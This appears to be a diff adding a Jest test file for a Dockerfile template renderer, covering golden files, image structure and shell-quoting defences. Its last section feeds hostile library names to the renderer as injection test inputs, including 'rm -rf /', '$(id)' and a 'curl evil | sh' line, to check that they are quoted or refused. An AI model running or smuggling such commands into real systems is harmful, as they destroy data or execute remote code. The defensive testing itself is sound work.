@@ -1,0 +1,176 @@
+/**
+ * Golden files of the rendered Dockerfiles: a template change shows up as a reviewable diff.
+ * Regenerate after an intended change with `UPDATE_GOLDEN=1 npx jest tests/unit/templates`.
+ */
+import fs from 'node:fs';
+import path from 'node:path';
+import type { LibrarySpec } from '../../../factory/catalogue';
+import { parseLibrarySpecs } from '../../../factory/libraries';
+import {
+  renderBase,
+  renderExercise,
+  renderNuclio,
+  renderRuntime,
+  renderUpstreamRuntime,
+  type RenderedImage,
+} from '../../../factory/templates';
+import { C, GO, NODE, PHP, PROXY_SOURCE, PYTHON, RUBY, resolved } from './runtime-fixtures';
+
+const GOLDEN = path.join(__dirname, 'golden');
+const UPDATE = process.env.UPDATE_GOLDEN === '1';
+
+function expectGolden(name: string, text: string): void {
+  const file = path.join(GOLDEN, name);
+  if (UPDATE) {
+    fs.writeFileSync(file, text);
+    return;
+  }
+  if (!fs.existsSync(file)) throw new Error(`no golden file ${name}: run UPDATE_GOLDEN=1 npx jest tests/unit/templates`);
+  expect(text).toBe(fs.readFileSync(file, 'utf8'));
+}
+
+const node = resolved(NODE);
+const python = resolved(PYTHON, '3.11.2');
+
+describe('golden Dockerfiles', () => {
+  test('base image (bookworm)', () => {
+    const base = renderBase({ suite: 'bookworm', proxySource: PROXY_SOURCE });
+    expectGolden('base-bookworm.Dockerfile', base.dockerfile);
+    expect(base.parent).toBe('codering/debian:bookworm');
+    expect(base.files).toEqual([{ name: 'codering-proxy.c', content: PROXY_SOURCE }]);
+  });
+
+  test.each([
+    ['runtime-python-3.11.2.Dockerfile', python],
+    ['runtime-python-3.9.2.Dockerfile', resolved(PYTHON, '3.9.2')],
+    ['runtime-node-18.20.4.Dockerfile', node],
+    ['runtime-go-1.19.8.Dockerfile', resolved(GO)],
+  ])('runtime image %s', (name, runtime) => {
+    const image = renderRuntime({ runtime, baseImage: `codering/base:${runtime.entry.suite}-0123456789ab` });
+    expectGolden(name, image.dockerfile);
+    expect(image.files).toEqual([{ name: 'runtime.sh', content: runtime.definition.runtimeScript, mode: 0o755 }]);
+  });
+
+  test('runtime FROM the upstream image', () => {
+    const image = renderUpstreamRuntime({ runtime: python, proxySource: PROXY_SOURCE });
+    expectGolden('runtime-python-3.11.2-upstream.Dockerfile', image.dockerfile);
+    expect(image.parent).toBe('python:3.11-slim-bookworm');
+    expect(image.files.map((f) => f.name)).toEqual(['codering-proxy.c', 'runtime.sh']);
+  });
+
+  const exercises: Array<[string, ReturnType<typeof resolved>, string[]]> = [
+    ['exercise-node-npm.Dockerfile', node, ['lodash@4', 'apt:jq', '@types/node@20']],
+    ['exercise-python-pip.Dockerfile', python, ['requests==2.31.0', 'uvicorn[standard]>=0.20']],
+    ['exercise-c-apt.Dockerfile', resolved(C), ['apt:libgmp-dev', 'apt:zlib1g-dev=1:1.2.13.dfsg-1']],
+    ['exercise-ruby-gem.Dockerfile', resolved(RUBY), ['rake@13.0.6', 'nokogiri@>=1.15,<2']],
+    ['exercise-php-composer.Dockerfile', resolved(PHP), ['monolog/monolog@^3.0']],
+  ];
+  test.each(exercises)('exercise image %s', (name, runtime, specs) => {
+    const libraries = parseLibrarySpecs(runtime.definition, specs);
+    const image = renderExercise({ runtime, runtimeImage: `codering/${runtime.language}:${runtime.version}-0123456789ab`, libraries });
+    expectGolden(name, image.dockerfile);
+    expect(image.parent).toBe(`codering/${runtime.language}:${runtime.version}-0123456789ab`);
+  });
+
+  test('nuclio target of an exercise image, with its handler', () => {
+    const exercise = renderExercise({
+      runtime: node,
+      runtimeImage: 'codering/node:18.20.4-0123456789ab',
+      libraries: parseLibrarySpecs(node.definition, ['lodash@4']),
+    });
+    const image = renderNuclio({ image: { ...exercise, reference: '127.0.0.1:5000/codering/node-exercise:18.20.4-ba9876543210' } });
+    expectGolden('nuclio-node-exercise.Dockerfile', image.dockerfile);
+    const handler = image.files.find((f) => f.name === 'handler.sh');
+    expect(handler?.mode).toBe(0o755);
+    expectGolden('nuclio-node-exercise.handler.sh', String(handler?.content));
+  });
+});
+
+describe('what every image is made of', () => {
+  test('the base image has the contract of docs/proxy-contract.md', () => {
+    const { dockerfile } = renderBase({ suite: 'trixie', proxySource: PROXY_SOURCE });
+    expect(dockerfile).toContain('FROM codering/debian:trixie AS proxy-build');
+    expect(dockerfile).toContain('gcc -O2 -Wall -o /out/codering-proxy');
+    expect(dockerfile).toContain('COPY --from=proxy-build /out/codering-proxy /opt/codering/bin/codering-proxy');
+    expect(dockerfile).toContain('useradd --uid 1000 --gid 1000 --home-dir /box');
+    expect(dockerfile).toContain('ONBUILD COPY runtime.sh /opt/codering/runtime.sh');
+    expect(dockerfile).toContain('ENTRYPOINT ["/usr/bin/tini","-s","--","/opt/codering/bin/codering-proxy"]');
+    expect(dockerfile).toContain('CMD ["--serve"]');
+    expect(dockerfile).toMatch(/ENV .*LANG=C\.UTF-8/);
+    expect(dockerfile).toContain('WORKDIR /box');
+    // Every apt-get install cleans its lists in the same layer.
+    for (const line of dockerfile.split('\n').filter((l) => l.includes('apt-get install'))) {
+      expect(line).toContain('--no-install-recommends');
+    }
+    expect(dockerfile.match(/rm -rf \/var\/lib\/apt\/lists/g)).toHaveLength(2);
+  });
+
+  test('the nuclio handler is POSIX sh that sets PATH and the libraries\' variables itself', () => {
+    const exercise = renderExercise({ runtime: python, runtimeImage: 'codering/python:x', libraries: parseLibrarySpecs(python.definition, ['requests']) });
+    const image = renderNuclio({ image: { ...exercise, reference: 'r/codering/python-exercise:x' }, processorVersion: '1.14.9' });
+    const handler = String(image.files[0]?.content);
+    expect(handler).toMatch(/^PATH=.*\/usr\/bin/m);
+    expect(handler).toContain('PYTHONPATH=/opt/codering/lib/python');
+    expect(handler).toContain('exec /opt/codering/bin/codering-proxy --once');
+    expect(handler).not.toMatch(/\[\[|function |local /); // no bashisms
+    expect(image.dockerfile).toContain('FROM quay.io/nuclio/processor:1.14.9-amd64 AS processor');
+    expect(image.dockerfile).toContain('COPY --from=processor /home/nuclio/bin/processor /usr/local/bin/processor');
+    expect(image.dockerfile).toContain('CMD ["processor"]');
+    expect(image.dockerfile).toMatch(/^HEALTHCHECK /m);
+  });
+
+  test('an exercise installs the ecosystem in a builder stage and copies only the result', () => {
+    const { dockerfile, env } = renderExercise({
+      runtime: node,
+      runtimeImage: 'codering/node:18.20.4-0123456789ab',
+      libraries: parseLibrarySpecs(node.definition, ['lodash@4']),
+    });
+    const stages = dockerfile.split(/^FROM /m).slice(1);
+    expect(stages).toHaveLength(2);
+    expect(stages[0]).toMatch(/^codering\/node:18\.20\.4-0123456789ab AS libs/);
+    expect(stages[0]).toContain('npm install --prefix /opt/codering/lib/node');
+    expect(stages[0]).toContain('npm_config_audit=false npm_config_fund=false npm_config_update_notifier=false');
+    // The installer's own packages come before the libraries: a new library reuses that layer.
+    expect(stages[0]!.indexOf('apt-get install')).toBeLessThan(stages[0]!.indexOf('npm install'));
+    expect(stages[1]).toContain('COPY --from=libs /opt/codering/lib /opt/codering/lib');
+    expect(stages[1]).not.toContain('npm install');
+    expect(env).toEqual([{ name: 'NODE_PATH', value: '/opt/codering/lib/node/node_modules' }]);
+  });
+
+  test('apt-only libraries need no builder stage', () => {
+    const c = resolved(C);
+    const { dockerfile } = renderExercise({ runtime: c, runtimeImage: 'codering/c:x', libraries: parseLibrarySpecs(c.definition, ['apt:jq']) });
+    expect(dockerfile.match(/^FROM /gm)).toHaveLength(1);
+    expect(dockerfile).not.toContain('--from=libs');
+  });
+});
+
+describe('defence in depth: what reaches a shell is quoted', () => {
+  // parseLibrarySpecs refuses all of these; the renderer must still not let them through unquoted.
+  const hostile = (name: string, version = ''): LibrarySpec => ({ installer: 'npm', name, version });
+
+  test('a hostile name becomes one quoted shell word', () => {
+    const { dockerfile } = renderExercise({ runtime: node, runtimeImage: 'codering/node:x', libraries: [hostile("x'; rm -rf / #")] });
+    expect(dockerfile).toContain(`--no-progress 'x'\\''; rm -rf / #'`);
+  });
+
+  test('globs, variables and command substitutions are quoted', () => {
+    const { dockerfile } = renderExercise({ runtime: node, runtimeImage: 'codering/node:x', libraries: [hostile('$(id)', '*')] });
+    expect(dockerfile).toContain(`'$(id)@*'`);
+    expect(dockerfile).toContain('org.codering.libraries="\\$(id)@*"');
+  });
+
+  test('a newline (a new Dockerfile instruction) is refused outright', () => {
+    expect(() =>
+      renderExercise({ runtime: node, runtimeImage: 'codering/node:x', libraries: [hostile('lodash\nRUN curl evil | sh')] }),
+    ).toThrow(/control characters/);
+  });
+
+  test('a library of another ecosystem is refused', () => {
+    expect(() =>
+      renderExercise({ runtime: node, runtimeImage: 'codering/node:x', libraries: [{ installer: 'pip', name: 'requests', version: '' }] }),
+    ).toThrow(/not a npm library/);
+  });
+});
+
+export type { RenderedImage };
